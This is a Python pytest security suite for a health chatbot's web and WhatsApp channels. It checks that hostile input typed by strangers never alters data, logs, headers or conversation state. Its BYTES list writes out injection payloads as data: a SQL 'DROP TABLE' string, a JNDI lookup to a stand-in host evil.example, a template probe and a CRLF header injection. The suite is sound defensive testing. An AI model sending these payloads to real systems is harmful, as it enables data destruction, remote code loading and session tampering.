"""Words of strangers stay words: in answers, in the database, in log lines, in headers, on every channel."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any, Final

import httpx
import pytest

from stillnight.channels.inbox.tables import MESSAGES, PARTS
from stillnight.conversations.tables import CONVERSATIONS, EVENTS, FEEDBACK
from stillnight.language.text import encodable, typed
from tests.channels.kept import rows
from tests.channels.test_web import Patient
from tests.channels.whatsapp_cloud import patient as cloud
from tests.channels.whatsapp_twilio import patient as twilio
from tests.operations.test_logs import raw
from tests.security.conftest import Clinic
from tests.security.hostile import COMMANDS, COMPUTED, HALVES, LINES, MARK, MARKUP, SQL, TEMPLATES, WORDS

WEB: Final = "/webhooks/web"
KEPT: Final = "conversations.db"
# What Meta's and Twilio's forms can carry: their JSON and UTF-8 hold no half characters.
CARRIED: Final = (*SQL, *TEMPLATES, *LINES, *MARKUP)
_LOG_LINE: Final = re.compile(r"\d{4}-\d\d-\d\dT[\d:.]+Z [A-Z]+ \S+: |Stillnight |$")


def send(patient: Patient, path: str = "/messages", **body: Any) -> httpx.Response:
    """A body whose JSON may name what UTF-8 cannot carry."""
    headers = {"Authorization": f"Bearer {patient.token}"}
    return httpx.post(
        f"{patient.url}{WEB}{path}", content=json.dumps(body).encode("ascii"), headers=headers, timeout=60
    )


def read(patient: Patient, path: str) -> Any:
    headers = {"Authorization": f"Bearer {patient.token}"}
    return httpx.get(f"{patient.url}{WEB}{path}", headers=headers, timeout=60).json()


def history(patient: Patient) -> list[dict[str, Any]]:
    kept: list[dict[str, Any]] = read(patient, "/history")["messages"]
    return kept


def answered(patient: Patient, words: str) -> str:
    answer = send(patient, text=words)
    assert answer.status_code == 200, answer.text
    told = " ".join(message["text"] for message in answer.json()["messages"])
    assert told
    return told


def unharmed(clinic: Clinic) -> None:
    """All tables are there, nothing was forgotten or begun anew, and the log is made of our own lines alone."""
    folder = clinic.server.data_dir
    for table, file in (
        (CONVERSATIONS, KEPT),
        (EVENTS, KEPT),
        (FEEDBACK, KEPT),
        (MESSAGES, "inbox.db"),
        (PARTS, "inbox.db"),
    ):
        rows(folder, f"select count(*) from {table.name}", file=file)
    assert not rows(folder, f"select 1 from {EVENTS.name} where kind in ('restart', 'reset_slots', 'undo')", file=KEPT)
    log = clinic.server.log
    assert MARK not in log and "\x1b" not in log and "forged" not in log
    assert all(_LOG_LINE.match(line) for line in log.splitlines())


@pytest.fixture
def patient(clinic: Clinic) -> Patient:
    return Patient(clinic.server.url)


@pytest.mark.parametrize("words", WORDS, ids=lambda words: ascii(words)[:40])
def test_words_on_the_website_are_words(clinic: Clinic, patient: Patient, words: str) -> None:
    told = answered(patient, words)
    assert COMPUTED not in told and "<script" not in told
    assert [each["text"] for each in history(patient) if each["from"] == "patient"] == [typed(encodable(words)).strip()]
    unharmed(clinic)


@pytest.mark.parametrize("words", CARRIED, ids=lambda words: ascii(words)[:40])
def test_words_on_whatsapp_are_words(clinic: Clinic, words: str) -> None:
    meta, other = cloud.Patient(clinic.server, clinic.graph), twilio.Patient(clinic.server, clinic.twilio)
    for told in (
        json.dumps([each.payload for each in meta.says(words)]),
        str([each.body for each in other.says(words)]),
    ):
        assert len(told) > 2 and COMPUTED not in told and "<script" not in told
    unharmed(clinic)


# -- Rasa's commands


def whatsapp(clinic: Clinic) -> list[Callable[[str], Any]]:
    return [cloud.Patient(clinic.server, clinic.graph).says, twilio.Patient(clinic.server, clinic.twilio).says]


@pytest.mark.parametrize("command", COMMANDS, ids=ascii)
def test_command_typed_on_the_website_does_nothing(clinic: Clinic, patient: Patient, command: str) -> None:
    answered(patient, "can low iron cause restless legs")
    before = history(patient)
    answered(patient, command)
    after = history(patient)
    assert after[: len(before)] == before
    # No session was begun anew, no slot was set.
    assert [each["id"] for each in after if each["id"].startswith("start")] == ["start.0"]
    assert read(patient, "/numbers")["country"] is None
    unharmed(clinic)


@pytest.mark.parametrize(
    "command", ["/restart", "/session_start", '/more{"topic": "iron"}', " \u200b/restart"], ids=ascii
)
def test_command_typed_on_whatsapp_does_nothing(clinic: Clinic, command: str) -> None:
    for says in whatsapp(clinic):
        query = f"select count(*) from {EVENTS.name} where kind = 'session_started'"
        assert says("can low iron cause restless legs")
        before = rows(clinic.server.data_dir, query, file=KEPT)
        assert says(command)
        assert rows(clinic.server.data_dir, query, file=KEPT) == before
    unharmed(clinic)


# -- every other field


@pytest.mark.parametrize("words", [*WORDS, *COMMANDS], ids=lambda words: ascii(words)[:40])
def test_button_that_somebody_made_up_is_none(patient: Patient, words: str) -> None:
    assert send(patient, choice=words).status_code == 404


@pytest.mark.parametrize("words", WORDS, ids=lambda words: ascii(words)[:40])
def test_odd_feedback_and_country_do_nothing(clinic: Clinic, patient: Patient, words: str) -> None:
    (answer,) = send(patient, text="what is plmd").json()["messages"]
    assert send(patient, "/feedback", message=answer["id"], helpful=True, reason=words).status_code == 204
    assert send(patient, "/feedback", message=words, helpful=True).status_code == 400
    assert send(patient, text="is it inherited", country=words).status_code == 200
    unharmed(clinic)


HEADERS: Final = ("Authorization", "Origin", "X-Forwarded-For", "Forwarded", "User-Agent", "X-Request-ID", "Cookie",
                  "Idempotency-Key", "Accept", "Accept-Language", "Content-Type", "Host", "X-Hub-Signature-256",
                  "X-Twilio-Signature", "If-None-Match")  # fmt: skip
BYTES: Final = (
    b"' OR 1=1; DROP TABLE conversations; -- ",
    b"{{7777*7777}} ${jndi:ldap://evil.example/a} %n%s",
    b"\x1b[31m \xff\xfe\xc3\x28",
    b"a" * 6_000,
    b"a\x00b",
    b"a\rSet-Cookie: stolen=1",
)


@pytest.mark.parametrize("header", HEADERS)
def test_odd_header_is_neither_logged_nor_given_back_nor_a_fault_of_ours(clinic: Clinic, header: str) -> None:
    for target in ("POST /webhooks/web/session", "GET /webhooks/web/history", "POST /webhooks/whatsapp_cloud/webhook",
                   "POST /webhooks/whatsapp_twilio/webhook", "GET /widget/stillnight.js", "GET /nowhere"):  # fmt: skip
        for value in BYTES:
            host = b"" if header == "Host" else b"Host: localhost\r\n"
            request = target.encode() + b" HTTP/1.1\r\n" + host + header.encode() + b": " + value + MARK.encode()
            got = raw(clinic.server.port, request + b"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            head = got.partition(b"\r\n\r\n")[0]
            assert not head or 200 <= int(head.split()[1]) < 500, (target, value)
            assert MARK.encode() not in got and b"stolen" not in head
    unharmed(clinic)


def test_address_that_a_client_claims_is_not_believed(clinic: Clinic, patient: Patient) -> None:
    # Nobody said that there is a proxy in front, so that a header cannot be somebody else's address.
    for name in ("X-Forwarded-For", "Forwarded", "X-Real-IP"):
        answer = httpx.get(f"{patient.url}/healthz", headers={name: f"10.0.0.1, {MARK}"}, timeout=30)
        assert answer.status_code == 200
    unharmed(clinic)


FIELDS: Final = (
    lambda words: {"profile": {"name": words}},
    lambda words: {"profile": {"name": words}, "wa_id": words},
    lambda words: {"profile": words, "user_id": words},
)


@pytest.mark.parametrize("words", WORDS, ids=lambda words: ascii(words)[:40])
def test_fields_of_metas_deliveries_do_nothing_but_what_they_are_for(clinic: Clinic, words: str) -> None:
    person = cloud.Patient(clinic.server, clinic.graph)
    for contact in FIELDS:
        message = person.text("what is plmd")
        body = cloud.delivery(cloud.change([message], [{**person.contact, **contact(words)}]))
        assert cloud.post(clinic.server, body).status_code == 200
    for odd in ({"id": words}, {"from": words}, {"type": words}, {"timestamp": words}, {"context": {"id": words}}):
        body = person.body({**person.text("what is plmd"), **odd})
        assert cloud.post(clinic.server, body).status_code == 200
    pressed = person.message("interactive", {"type": "button_reply", "button_reply": {"id": words, "title": words}})
    assert cloud.post(clinic.server, person.body(pressed)).status_code == 200
    status = {"id": words, "status": "failed", "errors": [{"code": words}], "biz_opaque_callback_data": words}
    assert cloud.post(clinic.server, cloud.delivery(cloud.change(statuses=[status]))).status_code == 200
    person.settles()
    unharmed(clinic)


@pytest.mark.parametrize("words", CARRIED, ids=lambda words: ascii(words)[:40])
def test_fields_of_twilios_forms_do_nothing_but_what_they_are_for(clinic: Clinic, words: str) -> None:
    person = twilio.Patient(clinic.server, clinic.twilio)
    names = ("ProfileName", "MessageSid", "From", "To", "WaId", "ButtonPayload", "ButtonText", "ListId", "MediaUrl0",
             "MediaContentType0", "ErrorCode", "MessageStatus", "OriginalRepliedMessageSid", "AccountSid")  # fmt: skip
    for name in names:
        assert person.delivers(person.form("what is plmd", **{name: words})).status_code in {204, 400}, name
    person.settles()
    unharmed(clinic)


@pytest.mark.parametrize("words", HALVES, ids=ascii)
def test_half_a_character_beside_a_danger_does_not_hide_it(patient: Patient, words: str) -> None:
    (answer,) = send(patient, text=f"{words} i want to kill myself, my ferritin is 18").json()["messages"]
    assert answer["urgent"] and answer["contacts"]
    assert [each["from"] for each in history(patient)] == ["assistant", "patient", "assistant"]
